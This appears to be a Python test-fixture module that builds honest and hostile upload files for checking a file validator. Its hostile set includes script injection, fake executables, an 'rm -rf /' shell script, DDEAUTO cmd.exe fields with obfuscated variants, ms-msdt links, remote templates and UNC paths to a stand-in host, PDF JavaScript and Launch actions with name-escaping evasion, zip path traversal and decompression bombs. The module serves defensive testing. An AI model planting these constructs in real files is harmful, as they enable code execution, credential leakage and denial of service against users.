"""Files to send: honest ones, and hostile ones that call themselves something else."""

from __future__ import annotations

import io
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>alert(1)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OPEN_XML = "application/vnd.openxmlformats-officedocument"
ODT = "application/vnd.oasis.opendocument.text"


def picture(format: str = "PNG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, "teal").save(written, format, **options)
    return written.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that says where it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turn to the right
    exif.get_ifd(0x8825)[1] = "N"  # GPS
    exif[0x010E] = "secret-place"
    return picture("JPEG", (40, 30), exif=exif)


def see_through() -> bytes:
    written = io.BytesIO()
    Image.new("RGBA", (40, 30), (0, 128, 128, 90)).save(written, "PNG")
    return written.getvalue()


def photo_with_another_behind() -> bytes:
    """As telephones make them: two pictures in one JPEG."""
    written = io.BytesIO()
    first, second = (Image.new("RGB", (40, 30), colour) for colour in ("teal", "navy"))
    first.save(written, "MPO", save_all=True, append_images=[second])
    return written.getvalue()


def animation() -> bytes:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    written = io.BytesIO()
    frames[0].save(written, "GIF", save_all=True, append_images=frames[1:], duration=50)
    return written.getvalue()


def archive(*entries: tuple[str, bytes], comment: bytes = b"") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in entries:
            file.writestr(name, content)
        file.comment = comment
    return written.getvalue()


def word(*more: tuple[str, bytes]) -> bytes:
    return archive(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), *more)


def sheet(*more: tuple[str, bytes]) -> bytes:
    return archive(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"), *more)


def text_document() -> bytes:
    return archive(("mimetype", ODT.encode()), ("content.xml", b"<office/>"))


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = f"{RELATIONS}/attachedTemplate"


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def word_with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    return word(("word/_rels/settings.xml.rels", relations(kind, target, mode)))


def word_with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>" for piece in pieces)
    return word(("word/header1.xml", f"<w:hdr>{runs}</w:hdr>".encode()))


def text_document_with(body: str) -> bytes:
    return archive(("mimetype", ODT.encode()), ("content.xml", f"<office:body>{body}</office:body>".encode()))


def pdf(objects: bytes = b"") -> bytes:
    begin = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    return begin + objects + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def packed_objects(objects: bytes, more: bytes = b"") -> bytes:
    """Objects in a stream, as most PDFs of today have them."""
    text = b"2 0 3 40 " + objects
    packed = zlib.compress(text)
    head = b"4 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode %s /Length %d >>\n" % (more, len(packed))
    return head + b"stream\r\n" + packed + b"\r\nendstream\nendobj\n"


SCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
GO_TO = b"5 0 obj\n<< /Type /Catalog /OpenAction << /S /GoTo /D [6 0 R /Fit] >> >>\nendobj\n"


def pdf_that_unpacks_to_too_much() -> bytes:
    return pdf(packed_objects(b"<< /A (" + b" " * 68_000_000 + b") >>"))


def bomb() -> bytes:
    return word(("word/media/zeros.bin", b"\0" * 60_000_000))


HONEST = {
    "photo.png": (picture(), "image/png"),
    "photo.JPG": (picture("JPEG"), "image/jpeg"),
    "telephone.jpeg": (photo_with_another_behind(), "image/jpeg"),
    "transparent.png": (see_through(), "image/png"),
    "photo.webp": (picture("WEBP"), "image/webp"),
    "waving.gif": (animation(), "image/gif"),
    "policy.pdf": (pdf(), "application/pdf"),
    "letter.txt": ("Dear Eva, 5 < 6 & ¡olé!\n".encode(), "text/plain"),
    "old.txt": ("Grüße".encode("cp1252"), "text/plain"),
    "costs.csv": (b"item,amount\ntyre,120\n", "text/csv"),
    "from-windows.csv": (b"item;amount\r\ntyre;120\r\n", "application/vnd.ms-excel"),
    "letter.docx": (word(), f"{OPEN_XML}.wordprocessingml.document"),
    "costs.xlsx": (sheet(), f"{OPEN_XML}.spreadsheetml.sheet"),
    "letter.odt": (text_document(), ODT),
    "unnamed-type.pdf": (pdf(), ""),
    "opens-at-its-page.pdf": (pdf(GO_TO + packed_objects(b"<< /S /URI /URI (https://example.com/JavaScript) >>")), ""),
    "of-many-streams.pdf": (pdf(packed_objects(b"<< /A 1 >>") * 200 + packed_objects(b"<< /B 2 >>" * 900) * 20), ""),
    "with-a-link.docx": (word_with_relation(f"{RELATIONS}/hyperlink", "https://example.com/?a=1"), ""),
    "of-a-template.docx": (word_with_relation(TEMPLATE, r"file:///C:\Users\Eva\Letter.dotx"), ""),
    "with-fields.docx": (word_with_field(" PAGE ", ' HYPERLINK "https://example.com" ', " TOC "), ""),
    "with-a-chart.docx": (word(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", sheet())), ""),
    "with-a-link.odt": (text_document_with('<text:a xlink:href="https://example.com">here</text:a>'), ""),
    "with-a-picture.odt": (text_document_with('<draw:image xlink:href="Pictures/1.png"/>'), ""),
}

HOSTILE = {
    "a page": ("page.html", b"<!doctype html>" + SCRIPT, "text/html"),
    "a drawing with a script": ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, "image/svg+xml"),
    "a drawing called a photo": ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg'>", "image/png"),
    "a page called text": ("letter.txt", b"  \n<!-- hello --><html><body>" + SCRIPT, "text/plain"),
    "a script in a table": ("costs.csv", b"item,amount\n" + SCRIPT + b",1\n", "text/csv"),
    "a page called a photo": ("photo.jpg", b"<html>" + SCRIPT, "image/jpeg"),
    "a program": ("setup.exe", b"MZ" + b"\0" * 200, "application/octet-stream"),
    "a program called PDF": ("policy.pdf", b"MZ" + b"\0" * 200 + b"%%EOF", "application/pdf"),
    "a program with two endings": ("policy.pdf.exe", b"MZ" + b"\0" * 200, "application/pdf"),
    "a shell script called text": ("letter.txt", b"#!/bin/sh\nrm -rf /\n", "text/plain"),
    "bytes called text": ("letter.txt", b"\x00\x01\x02\x03", "text/plain"),
    "a PDF called text": ("letter.txt", pdf() + b"\x00", "text/plain"),
    "a PDF called a photo": ("photo.png", pdf(), "image/png"),
    "a photo called PDF": ("policy.pdf", picture(), "application/pdf"),
    "a photo declared a page": ("photo.png", picture(), "text/html"),
    "a PDF after something else": ("policy.pdf", b"<html>" + SCRIPT + pdf(), "application/pdf"),
    "half a PDF": ("policy.pdf", b"%PDF-1.7\n1 0 obj", "application/pdf"),
    "a PDF that is an archive": ("policy.pdf", pdf() + archive(("a.class", b"x")) + b"%%EOF", "application/pdf"),
    "an archive": ("files.zip", archive(("a.txt", b"x")), "application/zip"),
    "an archive called a letter": ("letter.docx", archive(("a.txt", b"x")), ""),
    "a sheet called a letter": ("letter.docx", sheet(), ""),
    "a letter with macros": ("letter.docx", word(("word/vbaProject.bin", b"x")), ""),
    "a letter with a program": ("letter.docx", word(("word/embeddings/setup.exe", b"MZ")), ""),
    "a letter with macros under another name": (
        "letter.docx",
        word_with_relation(
            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notes.xml", "Internal"
        ),
        "",
    ),
    "a letter that says it has macros": (
        "letter.docx",
        archive(
            ("[Content_Types].xml", b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled'/>"),
            ("word/document.xml", b"<w:document/>"),
        ),
        "",
    ),
    "a letter with an object of another program": (
        "letter.docx",
        word(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500)),
        "",
    ),
    "a letter that embeds one as a picture": (
        "letter.docx",
        word(("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500)),
        "",
    ),
    "a letter with a control": ("letter.docx", word_with_relation(f"{RELATIONS}/control", "x.xml", "Internal"), ""),
    "a letter with a page in it": ("letter.docx", word_with_relation(f"{RELATIONS}/aFChunk", "a.htm", "Internal"), ""),
    "a letter with an archive": ("letter.docx", word(("word/media/a.zip", archive(("a.txt", b"x")))), ""),
    "a letter with a table with macros": (
        "letter.docx",
        word(("word/embeddings/a.xlsx", archive(("[Content_Types].xml", b"<Types/>"), ("xl/vbaProject.bin", b"x")))),
        "",
    ),
    "a letter of a stranger's template": (
        "letter.docx",
        word_with_relation(TEMPLATE, "https://sink.example/a.dotm"),
        "",
    ),
    "a letter of a template on a share": (
        "letter.docx",
        word_with_relation(TEMPLATE, "file:///%5C%5Csink.example%5Ca.dotm"),
        "",
    ),
    "a letter with a picture elsewhere": (
        "letter.docx",
        word_with_relation(f"{RELATIONS}/image", r"\\sink.example\a.png"),
        "",
    ),
    "a letter with a link that runs": (
        "letter.docx",
        word_with_relation(f"{RELATIONS}/hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "",
    ),
    "a letter that asks a program": ("letter.docx", word_with_field(r" DDEAUTO c:\\windows\\cmd.exe "), ""),
    "a letter that asks one in pieces": ("letter.docx", word_with_field(" DD<!-- x -->E", "&#65;UTO cmd"), ""),
    "a letter that fetches a picture": (
        "letter.docx",
        word_with_field(' INCLUDEPICTURE "https://sink.example/a" '),
        "",
    ),
    "a letter with a declaration": (
        "letter.docx",
        word(("word/header1.xml", b"<!DOCTYPE a [<!ENTITY d 'DDEAUTO'>]><w:hdr/>")),
        "",
    ),
    "a letter in an alphabet of its own": (
        "letter.docx",
        word(("word/header1.xml", b"<?xml version='1.0' encoding='UTF-7'?><w:hdr/>")),
        "",
    ),
    "a letter that asks a program in UTF-16": (
        "letter.docx",
        word(("word/header1.xml", "<w:hdr><w:instrText>DDE cmd</w:instrText></w:hdr>".encode("utf-16"))),
        "",
    ),
    "a sheet that asks a program": (
        "costs.xlsx",
        sheet(
            ("xl/externalLinks/externalLink1.xml", b"<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>")
        ),
        "",
    ),
    "a sheet that fetches": (
        "costs.xlsx",
        sheet(("xl/_rels/a.rels", relations(f"{RELATIONS}/connections", "c.xml"))),
        "",
    ),
    "an ODT that asks a program": ("letter.odt", text_document_with("<text:dde-connection-decl/>"), ""),
    "an ODT that runs at an event": ("letter.odt", text_document_with("<script:event-listener/>"), ""),
    "an ODT with a picture elsewhere": (
        "letter.odt",
        text_document_with('<draw:image xlink:type="simple" xlink:href="http://sink.example/a.png"/>'),
        "",
    ),
    "an ODT with a link that runs": (
        "letter.odt",
        text_document_with('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">here</text:a>'),
        "",
    ),
    "a PDF with a script": ("policy.pdf", pdf(b"2 0 obj\n" + SCRIPT_ACTION + b"\nendobj\n"), "application/pdf"),
    "a PDF with an escaped script": (
        "policy.pdf",
        pdf(b"2 0 obj\n" + SCRIPT_ACTION.replace(b"/JavaScript", b"/J#61va#53cript") + b"\nendobj\n"),
        "",
    ),
    "a PDF with a script close to its key": (
        "policy.pdf",
        pdf(b"2 0 obj\n" + SCRIPT_ACTION.replace(b"/S /J", b"/#53/J") + b"\nendobj\n"),
        "",
    ),
    "a PDF that is a program": ("policy.pdf", pdf(b"2 0 obj\n<< /Fields [] /Need true/XFA 3 0 R >>\n"), ""),
    "a PDF with a packed script": ("policy.pdf", pdf(packed_objects(SCRIPT_ACTION)), ""),
    "a PDF with a script that is packed oddly": (
        "policy.pdf",
        pdf(packed_objects(b"x", b"/DecodeParms << /Predictor 12 >>")),
        "",
    ),
    "a PDF that starts a program": ("policy.pdf", pdf(b"2 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), ""),
    "a PDF that opens one on a share": ("policy.pdf", pdf(b"2 0 obj\n<< /S /GoToR /F (//sink.example/a) >>\n"), ""),
    "a PDF that is protected": ("policy.pdf", pdf(b"trailer << /Encrypt 9 0 R >>\n"), ""),
    "a PDF that fills the memory": ("policy.pdf", pdf_that_unpacks_to_too_much(), ""),
    "a letter that climbs out": ("letter.docx", word(("../../etc/passwd", b"x")), ""),
    "a letter behind a page": ("letter.docx", b"<html>" + SCRIPT + word(), ""),
    "a letter before a page": ("letter.docx", word() + b"<html>" + SCRIPT, ""),
    "a letter with words at its end": (
        "letter.docx",
        archive(("[Content_Types].xml", b"x"), ("word/document.xml", b"x"), comment=b"<html>" + SCRIPT),
        "",
    ),
    "a letter that fills the disk": ("letter.docx", bomb(), ""),
    "an ODT of another kind": ("letter.odt", archive(("mimetype", b"application/x-other"), ("content.xml", b"x")), ""),
    "the first bytes of a photo": ("photo.png", picture()[:30], "image/png"),
    "a photo of too many points": ("photo.png", picture(size=(9000, 9000)), "image/png"),
    "nothing": ("letter.txt", b"", "text/plain"),
    "no ending": ("letter", b"hello", "text/plain"),
    "no name": ("", b"hello", "text/plain"),
}
